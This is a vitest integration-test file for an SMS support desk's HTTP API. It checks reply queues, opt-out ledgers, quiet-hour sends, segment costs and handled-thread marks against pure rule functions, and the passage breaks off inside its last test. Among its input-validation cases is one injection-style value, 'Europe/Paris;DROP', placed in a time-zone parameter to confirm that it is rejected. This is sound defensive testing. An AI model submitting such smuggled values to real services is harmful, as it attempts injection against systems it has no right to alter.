import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { costlyCharacters } from '../../contract/desk/encoding-cost.ts'
import { type DeskMessage, partyKey } from '../../contract/desk/messages.ts'
import { needsReplyQueue } from '../../contract/desk/needs-reply.ts'
import { optOutLedger } from '../../contract/desk/opt-out-ledger.ts'
import { localTime, quietHourSends } from '../../contract/desk/quiet-hours.ts'
import { segmentInfo } from '../../contract/desk/segments.ts'
import { call as callServer } from '../testing/access-stack.ts'
import { heldAnswers } from '../testing/answers.ts'
import { readXlsx, serialToIso } from '../../contract/test-xlsx.ts'
import { statusCode } from '../index/parse.ts'
import type { Rooms } from '../rooms.ts'
import type { Running } from '../server.ts'
import { startWithRooms } from '../testing/helpers.ts'
import { DEMO_CREDENTIALS, END_MS, makeAccount, messageAt, type NumberProfile } from '../simulator/dataset.ts'
import { DESK_INDEX, DESK_PARTIES, deskCases } from '../simulator/desk-cases.ts'
import pg from 'pg'
import { startCluster, type Cluster } from '../../scripts/pg-cluster.mjs'
import { forgetDesk, refreshAllDesk, refreshDesk } from './refresh.ts'
import { DESK_EXPORT } from './route-kit.ts'
import { freshPgliteDir } from '../testing/pglite-template.ts'
import { MIGRATIONS_DIR, type MigratableDb } from '../db/migrate.ts'

/**
 * The desk over HTTP, after a real sync of demo numbers from the embedded simulator into PGlite
 * and into a real PostgreSQL server:
 * what the routes answer must equal what contract/desk's pure rules compute over the same
 * messages, and the simulator's scripted cases (desk-cases.ts) must show up as scripted.
 */

const account = makeAccount(DEMO_CREDENTIALS.sysId, DEMO_CREDENTIALS.authToken, 60)
const DESK = account.numbers[DESK_INDEX]!
const SYNCED = [account.numbers[0]!, DESK]
const AT = new Date(END_MS).toISOString()
/** The server's day of an export taken now (UTC), as the export's file name ends. */
const today = () => new Date().toISOString().slice(0, 10)

type Msg = DeskMessage & { number: string; party: string; ordinal: number; body: string }

/** A number's history as the simulator's own rules generate it (the index's ordinal 1 is seq 1). */
function truth(p: NumberProfile): Msg[] {
  const out: Msg[] = []
  for (let seq = 1; seq <= p.baseTotal; seq++) {
    const r = messageAt(p, seq, p.baseTotal, 'http://sim.invalid', 0)
    out.push({
      number: p.number,
      party: r.phone.replace(/\D/g, ''),
      direction: r.direction,
      date: `${r.GMTdate.replace(' ', 'T')}Z`,
      ordinal: seq,
      body: r.body,
      statusCode: statusCode(r.status),
    })
  }
  return out
}

/** RFC 4180 as contract/csv writes it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c !== '"') cell += c
      else if (text[i + 1] === '"') cell += text[i++]
      else quoted = false
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  if (cell || row.length) rows.push([...row, cell])
  return rows
}

describe.each(['pglite', 'postgres'] as const)('the support desk after a sync on %s', (engine) => {
  let dir: string
  let cluster: Cluster | null = null
  let running: Running
  let rooms: Rooms
  let all: Msg[]
  const port = () => Number(new URL(running.url).port)
  // Every answer these tests get is held to the schema its row declares (contract/desk/desk-api.ts).
  const answers = heldAnswers(() => running.routes)
  const call: typeof callServer = async (...args) => {
    const r = await callServer(...args)
    answers.hold(args[1], args[2], r.status, () => r.json())
    return r
  }
  const get = async (path: string) => {
    const r = await call(port(), 'GET', path)
    expect(r.status, `${path}: ${r.text.slice(0, 300)}`).toBe(200)
    return r.json() as Record<string, unknown> & { rows: Array<Record<string, unknown>> }
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sb-desk-'))
    if (engine === 'postgres') cluster = await startCluster()
    else await freshPgliteDir(join(dir, 'data'))
    const env = {
      PORT: '0',
      HOST: '127.0.0.1',
      LOG_REQUESTS: '0',
      ACCESS: 'local',
      SYNC_RATE: '0',
      INDEX_AUTO_SYNC: 'off',
      ...(cluster ? { DATABASE_URL: cluster.url } : { DATA_DIR: join(dir, 'data') }),
    }
    ;({ running, rooms } = await startWithRooms(env))
    for (const p of SYNCED) await rooms.index.syncer!.request({ number: p.number, tid: p.tid })
    await rooms.index.syncer!.idle()
    // The desk's catch-up at start runs beside the sync: over before the tests change desk tables.
    await rooms.deskCaughtUp
    // Number 0 is left to the sync's own store step, which refreshes the desk after each batch:
    // its expectations below hold only if that hook works. The desk number is refreshed again
    // batch by batch, newest first (most thread recomputes deferred to the reads' flush).
    for (let hi = DESK.baseTotal; hi > 0; hi -= 7)
      await refreshDesk(rooms.db, DESK.number, undefined, { min: Math.max(1, hi - 6), max: hi })
    all = SYNCED.flatMap(truth)
    const indexed = await rooms.db.query<{ n: number }>('SELECT count(*)::int AS n FROM index_messages')
    expect(indexed.rows[0]!.n).toBe(all.length)
  }, 180_000)

  afterAll(async () => {
    DESK_EXPORT.batch = 1000
    await running?.close()
    cluster?.stop()
    rmSync(dir, { recursive: true, force: true })
  }, 60_000)

  it('queues exactly who needsReplyQueue says is waiting, longest first', async () => {
    for (const minutes of [15, 0, 180]) {
      const expected = needsReplyQueue(all, minutes * 60_000, END_MS)
      const body = await get(`/api/desk/needs-reply?at=${AT}&thresholdMinutes=${minutes}&limit=500`)
      expect(body.total).toBe(expected.length)
      expect(body.rows.map((r) => [partyKey(String(r.number)), r.party, r.since, r.unanswered, r.optedOut])).toEqual(
        expected.map((e) => [e.number, e.party, e.since, e.unanswered, e.optedOut]),
      )
      expect(body.rows.map((r) => (r.lastInbound as { body: string }).body)).toEqual(expected.map((e) => e.lastInbound!.body))
    }
  })

  it('shows the scripted waits: 20 minutes, 2 hours and 3 days are due at 15 minutes, 5 minutes is not', async () => {
    const body = await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)
    const parties = body.rows.map((r) => r.party)
    for (const p of [DESK_PARTIES.wait20m, DESK_PARTIES.wait2h, DESK_PARTIES.wait3d]) expect(parties).toContain(p)
    expect(parties).not.toContain(DESK_PARTIES.wait5m)
    const wait3d = body.rows.find((r) => r.party === DESK_PARTIES.wait3d)!
    expect(wait3d.waitedMs).toBe(3 * 86_400_000)
    const wait2h = body.rows.find((r) => r.party === DESK_PARTIES.wait2h)!
    expect(parties.indexOf(DESK_PARTIES.wait3d)).toBeLessThan(parties.indexOf(DESK_PARTIES.wait2h))
    expect(wait2h.waitedMs).toBe(2 * 3_600_000)
    // An opt-out leaves nobody waiting.
    expect(parties).not.toContain(DESK_PARTIES.stopThenPromo)
    // Their question written without the leading 1, our reply with it: answered, so not waiting,
    // under either form.
    expect(parties).not.toContain(DESK_PARTIES.bothWaysAnswered)
    expect(parties).not.toContain(DESK_PARTIES.bothWaysAnswered.slice(1))
    // A question, then STOP: waiting since the question, and marked opted out (answer by call).
    const asked = body.rows.find((r) => r.party === DESK_PARTIES.askedThenStop)!
    expect(asked).toMatchObject({ waitedMs: 10 * 3_600_000, unanswered: 1, optedOut: true })
    // The row shows the question they still wait on, not the STOP after it (which hid it).
    expect((asked.lastInbound as { body: string }).body).toBe('When does my warranty end?')
    for (const p of [DESK_PARTIES.wait20m, DESK_PARTIES.wait2h, DESK_PARTIES.wait3d])
      expect(body.rows.find((r) => r.party === p)).toMatchObject({ optedOut: false })

    // Migration 470 mends a thread stored before: its last inbound the STOP.
    const stop = await rooms.db.query<{ ordinal: number; date: Date }>(
      `SELECT ordinal, date FROM index_messages WHERE number = $1 AND party_digits = $2 AND desk_opt = 'opt-out' ORDER BY ordinal DESC LIMIT 1`,
      [DESK.number, DESK_PARTIES.askedThenStop],
    )
    await rooms.db.query('UPDATE desk_threads SET last_inbound_ordinal = $3, last_inbound_at = $4 WHERE number = $1 AND party = $2', [
      DESK.number,
      DESK_PARTIES.askedThenStop,
      stop.rows[0]!.ordinal,
      stop.rows[0]!.date,
    ])
    const lastShown = async () =>
      (
        (await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)).rows.find(
          (r) => r.party === DESK_PARTIES.askedThenStop,
        )!.lastInbound as { body: string }
      ).body
    expect(await lastShown()).toBe('STOP')
    const sql = readFileSync(join(MIGRATIONS_DIR, '470-desk-last-question.sql'), 'utf8')
    await (rooms.db as unknown as MigratableDb).transaction((tx) => tx.exec(sql))
    expect(await lastShown()).toBe('When does my warranty end?')
  })

  it('counts opt-outs and sends after them as optOutLedger does, and the scripted ones as scripted', async () => {
    const ledger = optOutLedger(all)
    const body = await get('/api/desk/opt-outs?limit=500')
    expect(body.optedOut).toBe(ledger.filter((e) => e.optedOut).length)
    expect(body.optedBackIn).toBe(ledger.filter((e) => !e.optedOut).length)
    const sent = ledger.flatMap((e) => e.sentAfter.map((s) => ({ e, s })))
    expect(body.sentAfter).toBe(sent.length)
    const rows: Array<Record<string, unknown>> = []
    for (let page = 0; page < 20; page++) {
      const evidence = await get(`/api/desk/sent-after-opt-out?limit=500&offset=${page * 500}`)
      expect(evidence.total).toBe(sent.length)
      rows.push(...evidence.rows)
      if (evidence.rows.length < 500) break
    }
    const key = (n: unknown, o: unknown) => `${partyKey(String(n))}#${String(o)}`
    expect(rows.map((r) => key(r.number, (r.message as { ordinal: number }).ordinal)).sort()).toEqual(
      sent.map(({ e, s }) => key(e.number, (s.message as Msg).ordinal)).sort(),
    )

    const desk = await get(`/api/desk/sent-after-opt-out?number=${DESK.number}&limit=500`)
    const byParty = (p: string) => desk.rows.filter((r) => r.party === p)
    const promo = byParty(DESK_PARTIES.stopThenPromo)
    expect(promo.map((r) => (r.message as { body: string }).body)).toEqual(['Weekend sale: 20% off everything!'])
    expect((promo[0]!.optOut as { body: string }).body).toBe('STOP')
    expect(byParty(DESK_PARTIES.stopTexting)).toHaveLength(1)
    expect(byParty(DESK_PARTIES.stopStart)).toHaveLength(0)
    expect(byParty(DESK_PARTIES.stopBy)).toHaveLength(0)
    expect(byParty(DESK_PARTIES.unsubscribeFailed).map((r) => (r.message as { failed: boolean }).failed)).toEqual([true])
    // STOP written without the leading 1, the send after it with: one customer, reported.
    const twoWays = byParty(DESK_PARTIES.bothWaysStop)
    expect(twoWays.map((r) => (r.message as { body: string }).body)).toEqual(['New arrivals this week: come and see!'])
    expect((twoWays[0]!.optOut as { body: string }).body).toBe('STOP')

    const opts = await get(`/api/desk/opt-outs?number=${DESK.number}&limit=500`)
    const state = (p: string) => opts.rows.find((r) => r.party === p)
    expect(state(DESK_PARTIES.stopStart)).toMatchObject({ optedOut: false })
    expect((state(DESK_PARTIES.stopStart)!.history as unknown[]).length).toBe(2)
    expect(state(DESK_PARTIES.stopTexting)).toMatchObject({ optedOut: true, sentAfter: 1 })
    expect(state(DESK_PARTIES.stopBy)).toBeUndefined()
  })

  it('reports quiet-hour sends as quietHourSends does, the scripted 917 and 310 ones included', async () => {
    const mine = all.filter((m) => m.number === DESK.number)
    const expected = quietHourSends(mine)
    const body = await get(`/api/desk/quiet-hours?number=${DESK.number}&limit=500`)
    expect(body.quiet).toBe(expected.length)
    expect(body.rows.map((r) => r.ordinal).sort()).toEqual(expected.map((q) => (q.message as Msg).ordinal).sort())
    const quietParties = body.rows.map((r) => r.party)
    expect(quietParties).toContain(DESK_PARTIES.quietNy)
    expect(quietParties.filter((p) => p === DESK_PARTIES.quietLa)).toHaveLength(1)
    const perDay = new Map<string, number>()
    for (const q of expected) perDay.set(q.local.day, (perDay.get(q.local.day) ?? 0) + 1)
    expect(body.days).toEqual([...perDay].sort().map(([day, quiet]) => ({ day, quiet })))
    const outbound = mine.filter((m) => m.direction === 'outbound')
    expect(body.outbound).toBe(outbound.length)
    // Whole days sum the per-day counts; a bound inside a day counts message by message: the same answer.
    const first = new Date(mine[0]!.date).toISOString().slice(0, 10)
    const after = new Date(END_MS + 86_400_000).toISOString().slice(0, 10)
    for (const [from, to] of [
      [first, after],
      [`${first}T00:00:00Z`, `${after}T00:00:00Z`],
    ]) {
      const ranged = await get(`/api/desk/quiet-hours?number=${DESK.number}&limit=500&from=${from}&to=${encodeURIComponent(to!)}`)
      expect({ ...ranged, rows: undefined }).toEqual({ ...body, rows: undefined })
    }
  })

  it('counts segments per day and the costliest characters as segmentInfo and costlyCharacters do', async () => {
    const mine = all.filter((m) => m.number === DESK.number)
    const body = (await get(`/api/desk/segments?number=${DESK.number}`)) as unknown as {
      days: Array<{ day: string; segments: number; ucs2: number }>
      costliest: Array<{ char: string; messages: number; extraSegments: number }>
      forcingCharacters: number
      freeCharacters: number
    }
    // Every character that forced UCS-2, and those that never cost a segment: counted whole, beyond the 20 listed.
    const every = costlyCharacters(mine.map((m) => m.body))
    expect(body.forcingCharacters).toBe(every.length)
    expect(body.freeCharacters).toBe(every.filter((c) => Math.round(c.extraSegments * 1000) === 0).length)
    expect(body.days.reduce((a, d) => a + d.segments, 0)).toBe(mine.reduce((a, m) => a + segmentInfo(m.body).segments, 0))
    expect(body.days.reduce((a, d) => a + d.ucs2, 0)).toBe(mine.filter((m) => segmentInfo(m.body).encoding === 'UCS-2').length)
    const expected = costlyCharacters(mine.map((m) => m.body)).slice(0, 20)
    expect(body.costliest.map((c) => [c.char, c.messages, c.extraSegments])).toEqual(
      expected.map((c) => [c.char, c.messages, Math.round(c.extraSegments * 1000) / 1000]),
    )
    // The scripted 160-character pair: the curly apostrophe costs two extra segments.
    expect(segmentInfo(deskCases(END_MS).find((c) => c.body.endsWith('’'))!.body).segments).toBe(3)
    expect(body.costliest.map((c) => c.char)).toContain('’')
  })

  it("gives a thread's first page the party's opt-out state on that number, however the party is written", async () => {
    const opted = await get(`/api/index/thread?number=${DESK.number}&party=${DESK_PARTIES.stopThenPromo}&limit=5`)
    expect(opted.optedOut).toMatchObject({ since: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/) })
    // Written without the leading 1, as one of that customer's own messages writes it: the same customer.
    const both = await get(`/api/index/thread?number=${DESK.number}&party=${DESK_PARTIES.bothWaysStop.slice(1)}&limit=5`)
    expect(both.optedOut).toMatchObject({ since: expect.any(String) })
    const not = await get(`/api/index/thread?number=${DESK.number}&party=${DESK_PARTIES.wait2h}&limit=5`)
    expect(not.optedOut).toBeNull()
  })

  it('shows one customer across numbers, found from any phone format', async () => {
    const p = DESK_PARTIES.wait3d
    const body = await get(`/api/desk/customer?party=${encodeURIComponent(`+1 (${p.slice(1, 4)}) ${p.slice(4, 7)}-${p.slice(7)}`)}`)
    const mine = all.filter((m) => m.party === p)
    expect(body.numbers).toEqual([DESK.number])
    expect(body.party).toBe(p)
    // Typed without its leading 1: answered and logged under the key, the digits typed beside it.
    expect((await get(`/api/desk/customer?party=${encodeURIComponent(`(${p.slice(1, 4)}) ${p.slice(4, 7)}-${p.slice(7)}`)}`)).party).toBe(p)
    await rooms.access.flush()
    const logged = await rooms.db.query<{ party: string; details: Record<string, unknown> }>(
      `SELECT party, details FROM access_log WHERE action = 'customer.view' ORDER BY id DESC LIMIT 1`,
    )
    expect(logged.rows[0]).toMatchObject({ party: p, details: { party: p, asked: p.slice(1), numbers: 1 } })
    expect(body.inbound).toBe(mine.filter((m) => m.direction === 'inbound').length)
    expect(body.outbound).toBe(mine.filter((m) => m.direction === 'outbound').length)
    expect(body.waitingSince).toBe(new Date(END_MS - 3 * 86_400_000).toISOString())
    expect(body.firstContact).toBe(new Date(mine[0]!.date).toISOString())
    const none = await get('/api/desk/customer?party=442071838750')
    expect(none.numbers).toEqual([])
    // Dialled with an international call prefix, as a link may carry it: the same customer (nobody before).
    for (const dialled of [`001 ${p.slice(1)}`, `011 ${p}`, `00${p}`]) {
      const got = await get(`/api/desk/customer?party=${encodeURIComponent(dialled)}`)
      expect(got.numbers, dialled).toEqual([DESK.number])
      expect(got.inbound, dialled).toBe(body.inbound)
    }
  })

  it("counts a customer's failed sends only: a failed inbound message is none of ours", async () => {
    const failedIn = [...new Set(all.filter((m) => m.direction === 'inbound' && (m.statusCode ?? 0) >= 400).map((m) => m.party))]
    expect(failedIn.length).toBeGreaterThan(0)
    const failedSends = (p: string) => all.filter((m) => m.party === p && m.direction === 'outbound' && (m.statusCode ?? 0) >= 400).length
    const check = async () => {
      for (const p of failedIn.slice(0, 8)) expect((await get(`/api/desk/customer?party=${p}`)).failed, p).toBe(failedSends(p))
    }
    await check()
    // Threads counted by a version before (every failed message): migration 440 recounts them.
    await rooms.db.query(
      `UPDATE desk_threads t SET failed = (SELECT count(*)::int FROM index_messages m
         WHERE m.number = t.number AND m.party_digits = t.party AND m.status_code >= 400)`,
    )
    const p0 = failedIn[0]!
    expect((await get(`/api/desk/customer?party=${p0}`)).failed).toBeGreaterThan(failedSends(p0))
    const sql = readFileSync(join(MIGRATIONS_DIR, '440-desk-failed-sends.sql'), 'utf8')
    await (rooms.db as unknown as MigratableDb).transaction((tx) => tx.exec(sql))
    await check()
  })

  it('takes a handled thread out of the queue, records who, and logs it', async () => {
    const p = DESK_PARTIES.wait20m
    // Typed without the country code: the thread is found as the index keys it.
    const r = await call(port(), 'POST', '/api/desk/handled', {
      json: { number: DESK.number, party: `(${p.slice(1, 4)}) ${p.slice(4, 7)}-${p.slice(7)}` },
    })
    expect(r.status, r.text).toBe(200)
    expect(r.json()).toMatchObject({ number: DESK.number, party: p, handledBy: 'local' })
    const body = await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)
    expect(body.rows.map((x) => x.party)).not.toContain(p)
    await rooms.access.flush()
    const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = 'needs-reply.handled'`)
    expect(log.rows[0]!.n).toBe(1)
    const missing = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party: '12025550000' } })
    expect(missing.status).toBe(404)
  })

  it('marks one thread however the party is typed: a customer written both ways is one thread, keyed with the 1', async () => {
    const key = DESK_PARTIES.bothWaysAnswered
    const threads = await rooms.db.query<{ party: string }>(
      'SELECT party FROM desk_threads WHERE number = $1 AND party = ANY($2::text[])',
      [DESK.number, [key, key.slice(1)]],
    )
    expect(threads.rows.map((x) => x.party)).toEqual([key])
    try {
      for (const party of [key.slice(1), key, `+1 (${key.slice(1, 4)}) ${key.slice(4, 7)}-${key.slice(7)}`]) {
        const r = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party } })
        expect(r.status, r.text).toBe(200)
        expect(r.json()).toMatchObject({ number: DESK.number, party: key })
      }
      const handled = await rooms.db.query<{ party: string }>(
        'SELECT party FROM desk_handled WHERE number = $1 AND party = ANY($2::text[])',
        [DESK.number, [key, key.slice(1)]],
      )
      expect(handled.rows.map((x) => x.party)).toEqual([key])
    } finally {
      await rooms.db.query('DELETE FROM desk_handled WHERE number = $1 AND party = $2', [DESK.number, key])
      await refreshDesk(rooms.db, DESK.number, [key])
    }
  })

  it('marks handled up to the message shown: its ordinal is checked, stored and logged', async () => {
    const p = DESK_PARTIES.wait2h
    const before = await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)
    const entry = before.rows.find((x) => x.party === p)!
    const seen = (entry.lastInbound as { ordinal: number }).ordinal
    // Not a message from this customer (an ordinal past the history, or theirs but one we sent).
    const outbound = await rooms.db.query<{ ordinal: number }>(
      `SELECT ordinal FROM index_messages WHERE number = $1 AND party_digits = $2 AND NOT desk_inbound LIMIT 1`,
      [DESK.number, p],
    )
    for (const through of [999_999_999, 2 ** 31 - 1, outbound.rows[0]!.ordinal]) {
      const r = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party: p, through } })
      expect(r.status, r.text).toBe(404)
      expect(r.json().error).toMatchObject({ kind: 'not_found', field: 'through' })
    }
    // 2 ** 31 and up are no PostgreSQL integer: they were a 500.
    for (const through of ['12', 0, 1.5, -3, 2 ** 31, 2 ** 32]) {
      const r = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party: p, through } })
      expect(r.status, `${JSON.stringify(through)}: ${r.text}`).toBe(400)
      expect(r.json().error).toMatchObject({ kind: 'invalid_request', field: 'through' })
    }
    const r = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party: p, through: seen } })
    expect(r.status, r.text).toBe(200)
    const stored = await rooms.db.query<{ through_ordinal: number }>(
      'SELECT through_ordinal FROM desk_handled WHERE number = $1 AND party = $2',
      [DESK.number, p],
    )
    expect(stored.rows).toEqual([{ through_ordinal: seen }])
    const after = await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)
    expect(after.rows.map((x) => x.party)).not.toContain(p)
    await rooms.access.flush()
    const log = await rooms.db.query<{ details: unknown }>(
      `SELECT details FROM access_log WHERE action = 'needs-reply.handled' ORDER BY id DESC LIMIT 1`,
    )
    expect(JSON.stringify(log.rows[0]!.details)).toContain(`"through":${seen}`)
  })

  it('undoes a mark: the customer is back in the queue, an earlier mark comes back, a newer one stays; logged', async () => {
    const p = DESK_PARTIES.wait3d
    const queue = async () => (await get(`/api/desk/needs-reply?at=${AT}&number=${DESK.number}&limit=500`)).rows.map((x) => x.party)
    expect(await queue()).toContain(p)
    const mark = async () => {
      const r = await call(port(), 'POST', '/api/desk/handled', { json: { number: DESK.number, party: p } })
      expect(r.status, r.text).toBe(200)
      return r.json() as { handledAt: string }
    }
    const undo = (handledAt: string) =>
      call(port(), 'POST', '/api/desk/handled/undo', { json: { number: DESK.number, party: p, handledAt } })
    const first = await mark()
    expect(await queue()).not.toContain(p)
    const u1 = await undo(first.handledAt)
    expect(u1.status, u1.text).toBe(200)
    expect(u1.json()).toMatchObject({ party: p, restored: false })
    expect(await queue()).toContain(p)
    // Two marks: undoing the second puts the first back (the customer stays handled).
    const a = await mark()
    await new Promise((r) => setTimeout(r, 5))
    const b = await mark()
    // An undo of the older one while a newer one stands: refused, the newer stays.
    const stale = await undo(a.handledAt)
    expect(stale.status, stale.text).toBe(409)
    expect(stale.json().error).toMatchObject({ field: 'handledAt' })
    expect((await undo(b.handledAt)).json()).toMatchObject({ restored: true })
    const kept = await rooms.db.query<{ handled_at: Date; prev: unknown }>(
      'SELECT handled_at, prev FROM desk_handled WHERE number = $1 AND party = $2',
      [DESK.number, p],
    )
    expect(new Date(kept.rows[0]!.handled_at).toISOString()).toBe(a.handledAt)
    expect(kept.rows[0]!.prev).toBeNull()
    expect(await queue()).not.toContain(p)
    // Back to no mark at all (the first had none before it), then nothing left to undo.
    expect((await undo(a.handledAt)).json()).toMatchObject({ restored: false })
    expect((await undo(a.handledAt)).status).toBe(404)
    expect(await queue()).toContain(p)
    // Three marks: undoing the third puts the second back, which is not undone in turn (it would
    // drop the first, which it does not know): 409, and the second stays.
    const z = await mark()
    await new Promise((r) => setTimeout(r, 5))
    const y = await mark()
    await new Promise((r) => setTimeout(r, 5))
    const x = await mark()
    expect((await undo(x.handledAt)).json()).toMatchObject({ restored: true })
    const again = await undo(y.handledAt)
    expect(again.status, again.text).toBe(409)
    const stays = await rooms.db.query<{ handled_at: Date }>('SELECT handled_at FROM desk_handled WHERE number = $1 AND party = $2', [
      DESK.number,
      p,
    ])
    expect(new Date(stays.rows[0]!.handled_at).toISOString()).toBe(y.handledAt)
    expect(z.handledAt < y.handledAt).toBe(true)
    await rooms.db.query('DELETE FROM desk_handled WHERE number = $1 AND party = $2', [DESK.number, p])
    await refreshDesk(rooms.db, DESK.number, [p])
    expect(await queue()).toContain(p)
    for (const [json, field] of [
      [{ number: DESK.number, party: p }, 'handledAt'],
      [{ number: DESK.number, party: p, handledAt: 'yesterday' }, 'handledAt'],
      [{ number: 'x', party: p, handledAt: a.handledAt }, 'number'],
      [{ number: DESK.number, party: p, handledAt: a.handledAt, by: 'x' }, 'by'],
    ] as const) {
      const r = await call(port(), 'POST', '/api/desk/handled/undo', { json })
      expect(r.status, r.text).toBe(400)
      expect(r.json().error).toMatchObject({ field })
    }
    await rooms.access.flush()
    // Each undo done is logged (four); a refused one is not.
    const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = 'needs-reply.unhandled'`)
    expect(log.rows[0]!.n).toBe(4)
  })

  it('refuses bad parameters, naming the field', async () => {
    const cases: Array<[string, string, string, unknown?]> = [
      ['GET', '/api/desk/needs-reply?thresholdMinutes=abc', 'thresholdMinutes'],
      ['GET', '/api/desk/needs-reply?thresholdMinutes=-5', 'thresholdMinutes'],
      ['GET', '/api/desk/needs-reply?at=2026-11-20', 'at'],
      ['GET', '/api/desk/needs-reply?number=12', 'number'],
      ['GET', '/api/desk/needs-reply?sort=x', 'sort'],
      ['GET', '/api/desk/opt-outs?state=maybe', 'state'],
      ['GET', '/api/desk/sent-after-opt-out?offset=-1', 'offset'],
      ['GET', '/api/desk/customer', 'party'],
      ['GET', '/api/desk/customer?party=abc', 'party'],
      ['GET', '/api/desk/quiet-hours', 'number'],
      ['GET', `/api/desk/segments?number=${DESK.number}&from=2026-11-20&to=2026-11-01`, 'to'],
      // Days the database cannot take: a 500 before.
      ['GET', '/api/desk/needs-reply?at=0001-01-01T00:00:00Z', 'at'],
      // Instants that do not exist: rolled over to 2 March and 1 December before.
      ['GET', '/api/desk/needs-reply?at=2026-02-30T00:00:00Z', 'at'],
      ['GET', '/api/desk/needs-reply/export?at=2026-02-30T00:00:00Z', 'at'],
      ['GET', `/api/desk/quiet-hours?number=${DESK.number}&from=2026-11-31T00:00:00Z`, 'from'],
      ['GET', '/api/desk/needs-reply/export?at=0001-01-01T00:00:00Z', 'at'],
      ['GET', '/api/desk/needs-reply/export?tz=Mars/Olympus', 'tz'],
      ['GET', '/api/desk/opt-outs/export?tz=Europe/Paris;DROP', 'tz'],
      ['GET', `/api/desk/quiet-hours/export?number=${DESK.number}&to=9999-12-31`, 'to'],
      ['GET', `/api/desk/quiet-hours?number=${DESK.number}&from=0001-01-01`, 'from'],
      ['GET', '/api/desk/customer?party=tel:1/415/555/0123', 'party'],
      ['POST', '/api/desk/handled', 'party', { number: DESK.number }],
      ['POST', '/api/desk/handled', 'number', { party: DESK_PARTIES.wait2h }],
      ['POST', '/api/desk/handled', 'who', { number: DESK.number, party: DESK_PARTIES.wait2h, who: 'x' }],
    ]
    for (const [method, path, field, json] of cases) {
      const r = await call(port(), method, path, json === undefined ? {} : { json })
      expect(r.status, `${method} ${path}: ${r.text}`).toBe(400)
      expect(r.json().error).toMatchObject({ kind: 'invalid_request', field })
    }
  })

  it("counts the queue for the navigation's badge with no customer in the answer and no access-log entry", async () => {
    await rooms.access.flush()
    const logged = async () => (await rooms.db.query<{ n: number }>('SELECT count(*)::int AS n FROM access_log')).rows[0]!.n
    const before = await logged()
    const counted = await call(port(), 'GET', `/api/desk/needs-reply/count?number=${DESK.number}`)
    expect(counted.status, counted.text).toBe(200)
    expect(Object.keys(counted.json()).sort()).toEqual(['at', 'thresholdMinutes', 'total'])
    await rooms.access.flush()
    expect(await logged()).toBe(before)
    // The same total the queue itself gives (that read is logged).
    const queue = await get(`/api/desk/needs-reply?number=${DESK.number}&limit=1`)
    expect(counted.json().total).toBe(queue.total)
    expect(counted.json().total).toBeGreaterThan(0)
    const bad = await call(port(), 'GET', '/api/desk/needs-reply/count?number=abc')
    expect(bad.status).toBe(400)
    expect(bad.json().error).toMatchObject({ field: 'number' })
  })

  it('logs every read under its action', async () => {
    const desk = ['needs-reply', 'opt-outs', 'sent-after-opt-out', 'customer', 'quiet-hours', 'segments']
    await rooms.access.flush()
    const actions = await rooms.db.query<{ action: string }>(
      `SELECT DISTINCT action FROM access_log WHERE split_part(action, '.', 1) = ANY ($1::text[]) AND action NOT LIKE '%.export'`,
      [desk],
    )
    expect(actions.rows.map((a) => a.action).sort()).toEqual(
      [
        'customer.view',
        'needs-reply.handled',
        'needs-reply.unhandled',
        'needs-reply.view',
        'opt-outs.view',
        'quiet-hours.view',
        'segments.view',
        'sent-after-opt-out.view',
      ].sort(),
    )
  })

  it('keeps the team threshold an admin sets, and the queue uses it when the request names none', async () => {
    expect(await get('/api/desk/settings')).toMatchObject({ thresholdMinutes: 15, updatedBy: null })
    const at = new Date(END_MS).toISOString()
    const queue = async () => (await get(`/api/desk/needs-reply?at=${at}&number=${DESK.number}&limit=500`)).rows.map((x) => x.party)
    // 5 minutes is not due at 15; at 3 it is.
    expect(await queue()).not.toContain(DESK_PARTIES.wait5m)
    const saved = await call(port(), 'POST', '/api/desk/settings', { json: { thresholdMinutes: 3 } })
    expect(saved.status, saved.text).toBe(200)
    expect(saved.json()).toMatchObject({ thresholdMinutes: 3, updatedBy: 'local' })
    expect(await queue()).toContain(DESK_PARTIES.wait5m)
    for (const [json, field] of [
      [{ thresholdMinutes: -1 }, 'thresholdMinutes'],
      [{ thresholdMinutes: 2.5 }, 'thresholdMinutes'],
      [{ thresholdMinutes: '15' }, 'thresholdMinutes'],
      [{ thresholdMinutes: 15, colour: 'red' }, 'colour'],
    ] as const) {
      const r = await call(port(), 'POST', '/api/desk/settings', { json })
      expect(r.status, r.text).toBe(400)
      expect(r.json().error).toMatchObject({ kind: 'invalid_request', field })
    }
    expect((await call(port(), 'POST', '/api/desk/settings', { json: { thresholdMinutes: 15 } })).status).toBe(200)
    expect(await queue()).not.toContain(DESK_PARTIES.wait5m)
    // Each change is logged with the threshold it replaced; a queue read as of a moment, with that moment.
    await rooms.access.flush()
    const changes = await rooms.db.query<{ details: Record<string, unknown> }>(
      `SELECT details FROM access_log WHERE action = 'needs-reply.settings' ORDER BY id DESC LIMIT 2`,
    )
    expect(changes.rows.map((x) => x.details)).toEqual([
      { thresholdMinutes: 15, was: 3 },
      { thresholdMinutes: 3, was: 15 },
    ])
